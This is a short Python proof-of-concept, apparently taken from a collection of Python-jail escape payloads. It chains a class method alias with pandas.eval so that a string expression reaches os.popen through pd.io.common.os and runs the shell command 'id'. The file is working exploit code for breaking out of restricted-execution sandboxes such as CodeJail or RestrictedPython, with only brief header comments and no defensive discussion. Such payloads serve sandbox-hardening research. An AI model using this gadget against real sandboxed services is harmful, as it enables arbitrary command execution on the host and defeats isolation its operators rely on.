# source: pyjail 'unbound method with another self' bypasses (CodeJail/RestrictedPython write-ups); pandas eval injection gadget pd.io.common.os
# family: method function of a script class reached as a plain value (an alias go = run in the class body; Calc.go(obj, ...) reads as C.x, runs the method with any self)
# goal: self.eval trusted as the script's def eval is pandas.eval -> os.popen('id')
import pandas as pd
class Calc:
    def eval(self, e, **kw):
        return None
    def run(self, e):
        return self.eval(e)
    go = run
print(Calc.go(pd, "pd.io.common.os.popen('id').read()"))
